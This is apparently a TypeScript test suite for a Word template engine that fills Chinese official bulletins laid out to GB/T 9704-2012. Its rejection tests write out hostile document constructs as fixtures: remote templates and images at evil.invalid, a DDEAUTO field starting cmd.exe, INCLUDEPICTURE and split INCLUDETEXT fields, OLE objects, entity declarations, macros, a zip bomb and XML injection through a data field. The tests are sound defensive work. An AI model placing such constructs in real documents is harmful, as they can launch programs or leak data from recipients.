import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { Problem } from '../errors/problem.ts';
import { checkTemplate, fillTemplate, type TemplateShape } from './template.ts';
import { buildBulletin } from './templates/build-bulletin.ts';
import { bulletinTags } from './templates/bulletin-tags.ts';
import { layout, markOf } from './templates/official-document.ts';

const bulletin = new Uint8Array(readFileSync(new URL('./templates/bulletin.docx', import.meta.url)));
const isProblem = (code: string) => (error: unknown) => error instanceof Problem && error.code === code;
const part = (bytes: Uint8Array, name: string) => strFromU8(unzipSync(bytes)[name] ?? new Uint8Array());
const attribute = (xml: string, tag: string, name: string) =>
  Number(new RegExp(`<w:${tag} [^>]*w:${name}="(-?\\d+)"`).exec(xml)?.[1]);
const millimetres = (twips: number) => (twips * 25.4) / 1440;
const textOf = (xml: string) =>
  [...xml.matchAll(/<w:p[ >].*?<\/w:p>/gs)]
    .map((found) => found[0].replace(/<[^>]*>/g, ''))
    .filter((text) => text !== '');

function altered(name: string, change: (xml: string) => string): Uint8Array {
  return zipSync({ ...unzipSync(bulletin), [name]: strToU8(change(part(bulletin, name))) });
}

test('the template in the folder is the one that its script makes', () => {
  assert.deepEqual(unzipSync(bulletin), unzipSync(buildBulletin()));
});

test('GB/T 9704-2012, 5.2.1: A4, 37 mm above, 28 mm at the binding, type area 156 mm × 225 mm', () => {
  const xml = part(bulletin, 'word/document.xml');
  const page = (tag: string, name: string) => millimetres(attribute(xml, tag, name));
  assert.ok(Math.abs(page('pgSz', 'w') - 210) < 0.1 && Math.abs(page('pgSz', 'h') - 297) < 0.1);
  assert.ok(Math.abs(page('pgMar', 'top') - 37) < 0.1);
  assert.ok(Math.abs(page('pgMar', 'left') - 28) < 0.1);
  assert.ok(Math.abs(page('pgSz', 'w') - page('pgMar', 'left') - page('pgMar', 'right') - 156) < 0.1);
  assert.ok(Math.abs(page('pgSz', 'h') - page('pgMar', 'top') - page('pgMar', 'bottom') - 225) < 0.1);
  assert.match(part(bulletin, 'word/settings.xml'), /<w:mirrorMargins\/>/);
});

test('GB/T 9704-2012, 5.2.3: the grid holds exactly 22 lines of 28 characters of size 3', () => {
  const xml = part(bulletin, 'word/document.xml');
  assert.match(xml, /<w:docGrid w:type="linesAndChars"/);
  const height = attribute(xml, 'pgSz', 'h') - attribute(xml, 'pgMar', 'top') - attribute(xml, 'pgMar', 'bottom');
  assert.equal(Math.floor(height / attribute(xml, 'docGrid', 'linePitch')), 22);
  const width = attribute(xml, 'pgSz', 'w') - attribute(xml, 'pgMar', 'left') - attribute(xml, 'pgMar', 'right');
  assert.equal(Math.floor(width / ((16 + attribute(xml, 'docGrid', 'charSpace') / 4096) * 20)), 28);
  assert.equal(attribute(part(bulletin, 'word/styles.xml'), 'sz', 'val'), 32);
});

test('GB/T 9704-2012, 7: the fonts and sizes of mark, title, headings, body and page number', () => {
  const styles = part(bulletin, 'word/styles.xml');
  const expected = {
    Mark: ['方正小标宋简体', 72],
    Title: ['方正小标宋简体', 44],
    Body: ['仿宋_GB2312', 32],
    Heading1: ['黑体', 32],
    Heading2: ['楷体_GB2312', 32],
    PageOdd: ['宋体', 28],
    PageEven: ['宋体', 28],
  };
  for (const [id, [font, size]] of Object.entries(expected)) {
    const style = new RegExp(`w:styleId="${id}">.*?</w:style>`, 's').exec(styles)?.[0] ?? '';
    assert.ok(style.includes(`w:eastAsia="${font}"`), id);
    assert.equal(attribute(style, 'sz', 'val'), size, id);
  }
  assert.match(styles, /w:styleId="Mark">.*?<w:color w:val="FF0000"\/>/);
  assert.equal(textOf(part(bulletin, 'word/footer1.xml')).join(''), '—  PAGE 1 —');
  assert.ok(layout.footer > 0);
});

test('the style that all others follow names its font and size: word processors take the pitch of the grid from it alone', () => {
  const styles = part(bulletin, 'word/styles.xml');
  const normal = /w:default="1" w:styleId="Normal">.*?<\/w:style>/s.exec(styles)?.[0] ?? '';
  assert.match(normal, /w:eastAsia="仿宋_GB2312"/);
  assert.deepEqual([attribute(normal, 'sz', 'val'), attribute(normal, 'szCs', 'val')], [32, 32]);
  for (const [style] of styles.matchAll(/<w:style w:type="paragraph" w:(?:customStyle|styleId).*?<\/w:style>/gs))
    assert.match(style, /<w:basedOn w:val="Normal"\/>/);
});

test('the mark of an office that is longer than a line breaks between words, into lines of like length', () => {
  assert.equal(markOf('广东省双打办文件'), '广东省双打办文件');
  assert.equal(markOf('广东省打击侵权假冒工作领导小组办公室文件'), '广东省打击侵权假冒工作\n领导小组办公室文件');
  assert.equal(markOf('广州市黄埔区市场监督管理局文件'), '广州市黄埔区市场\n监督管理局文件');
  for (const line of markOf('广东省'.repeat(14)).split('\n')) assert.ok(line.length <= 12, line);
});

test('every tag of the bulletin exists, and every one is used', async () => {
  const report = await checkTemplate(bulletin, { name: 'bulletin.docx', shape: bulletinTags });
  assert.deepEqual(report.unknown, []);
  assert.deepEqual(report.missing, []);
  assert.ok(report.found.includes('章节/小节/段落/正文'));
});

test('a bulletin is filled: sections, paragraphs and one table row per department, and no tag is left', async () => {
  const data = {
    发文机关标志: '广东省打击侵权假冒工作领导小组办公室文件',
    发文字号: '粤打假办〔2016〕12号',
    标题: '关于第三季度重点工作进展情况的通报',
    主送机关: '各成员单位',
    导语: [{ 正文: '现将有关情况通报如下。' }],
    章节: [
      { 题目: '一、总体情况', 段落: [{ 正文: '甲' }, { 正文: '乙 <&> {标题}' }], 小节: [] },
      { 题目: '二、存在问题', 段落: [], 小节: [{ 题目: '（一）进展滞后', 段落: [{ 正文: '丙\n丁\u0001' }] }] },
    ],
    表题: '各单位完成情况',
    部门: ['省市场监管局', '省公安厅'].map((单位, at) => {
      return { 序号: at + 1, 单位, 任务数: 10, 已完成: 8, 超期: 2, 备注: '' };
    }),
    署名: '广东省双打办',
    成文日期: '2016年10月8日',
    抄送: '省委办公厅',
    印发机关: '省双打办',
    印发日期: '2016年10月8日',
  };
  const filled = await fillTemplate(bulletin, data, { name: 'bulletin.docx', shape: bulletinTags });
  const xml = part(new Uint8Array(filled), 'word/document.xml');
  const texts = textOf(xml);
  assert.deepEqual(texts.slice(3, 11), [
    '各成员单位：',
    '现将有关情况通报如下。',
    '一、总体情况',
    '甲',
    '乙 &lt;&amp;&gt; {标题}',
    '二、存在问题',
    '（一）进展滞后',
    '丙丁',
  ]);
  assert.equal(xml.match(/<w:tr[ >]/g)?.length, 3);
  assert.ok(texts.includes('省公安厅'));
  assert.ok(!xml.includes('{#') && !xml.includes('{/'));
  assert.match(xml, /<w:docGrid w:type="linesAndChars"/);
});

test('unknown and missing tags are named with their loops', async () => {
  const changed = altered('word/document.xml', (xml) => xml.replace('{备注}', '{附注}'));
  const report = await checkTemplate(changed, { name: '模板.docx', shape: bulletinTags });
  assert.deepEqual(report.unknown, ['部门/附注']);
  assert.deepEqual(report.missing, ['部门/备注']);
  await assert.rejects(
    fillTemplate(changed, {}, { name: '模板.docx', shape: bulletinTags }),
    isProblem('office.templateTags'),
  );
});

test('a loop without its end, an end without its loop, crossed loops and a tag left open are refused', async () => {
  for (const [from, to] of [
    ['{/章节}', ''],
    ['{#章节}', ''],
    ['{/小节}', '{/章节}'],
    ['{表题}', '{表题'],
  ] as const) {
    const changed = altered('word/document.xml', (xml) => xml.replace(from, to));
    const check = checkTemplate(changed, { name: '模板.docx', shape: bulletinTags });
    await assert.rejects(check, isProblem('office.templateFault'), from);
  }
});

const relation = (type: string, target: string) => (xml: string) =>
  xml.replace(
    '</Relationships>',
    `<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  );
const field = (instruction: string) => (xml: string) =>
  xml.replace('<w:sectPr>', `<w:p><w:r><w:instrText>${instruction}</w:instrText></w:r></w:p><w:sectPr>`);
const rels = 'word/_rels/document.xml.rels';
const refusals: [string, string, (xml: string) => string, string][] = [
  ['a remote template', rels, relation('attachedTemplate', 'http://evil.invalid/t.dotm'), 'office.externalReference'],
  ['a linked image', rels, relation('image', 'http://evil.invalid/p.png'), 'office.externalReference'],
  ['an image on a file share', rels, relation('image', 'file://evil/p.png'), 'office.externalReference'],
  ['an embedded program', rels, relation('oleObject', 'embeddings/o.bin'), 'office.externalReference'],
  ['a link that starts a program', rels, relation('hyperlink', 'file:///c:/x.lnk'), 'office.externalReference'],
  [
    'a field that includes a picture',
    'word/document.xml',
    field('INCLUDEPICTURE "http://evil.invalid/p.png"'),
    'office.externalReference',
  ],
  ['a field that starts a program', 'word/document.xml', field('DDEAUTO c:\\\\cmd.exe'), 'office.externalReference'],
  [
    'a field split so that no single run shows it',
    'word/document.xml',
    (xml) =>
      xml.replace(
        '<w:sectPr>',
        '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "x"</w:instrText></w:r></w:p><w:sectPr>',
      ),
    'office.externalReference',
  ],
  [
    'a document type',
    'word/styles.xml',
    (xml) => xml.replace('<w:styles', '<!DOCTYPE x [<!ENTITY a "b">]><w:styles'),
    'office.documentType',
  ],
  ['another encoding', 'word/styles.xml', (xml) => xml.replace('UTF-8', 'utf-7'), 'office.damaged'],
  ['broken XML', 'word/document.xml', (xml) => xml.slice(0, -30), 'office.damaged'],
  ['macros', 'word/vbaProject.bin', () => 'x', 'file.macros'],
];

for (const [what, name, change, code] of refusals) {
  test(`a template with ${what} is refused`, async () => {
    const bad = altered(name, change);
    await assert.rejects(checkTemplate(bad, { name: '模板.docx', shape: bulletinTags }), isProblem(code));
  });
}

test('an ordinary web link is allowed, and a zip bomb is not', async () => {
  const linked = altered(rels, relation('hyperlink', 'https://www.example.invalid/'));
  await checkTemplate(linked, { name: '模板.docx', shape: bulletinTags });
  const bomb = zipSync({ ...unzipSync(bulletin), 'word/media/a.bin': new Uint8Array(70 * 1024 * 1024) }, { level: 1 });
  await assert.rejects(
    checkTemplate(bomb, { name: '炸弹.docx', shape: bulletinTags }),
    isProblem('file.unpackedTooLarge'),
  );
});

test('data cannot bring markup or library content into the document', async () => {
  const shape: TemplateShape = { 标题: 'text' };
  const template = altered('word/document.xml', (xml) =>
    xml.replace(/<w:body>.*<w:sectPr>/s, '<w:body><w:p><w:r><w:t>{标题}</w:t></w:r></w:p><w:sectPr>'),
  );
  const filled = await fillTemplate(template, { 标题: '</w:t></w:r><w:r><w:t>x' }, { name: '模板.docx', shape });
  assert.deepEqual(textOf(part(new Uint8Array(filled), 'word/document.xml')), [
    '&lt;/w:t&gt;&lt;/w:r&gt;&lt;w:r&gt;&lt;w:t&gt;x',
  ]);
});
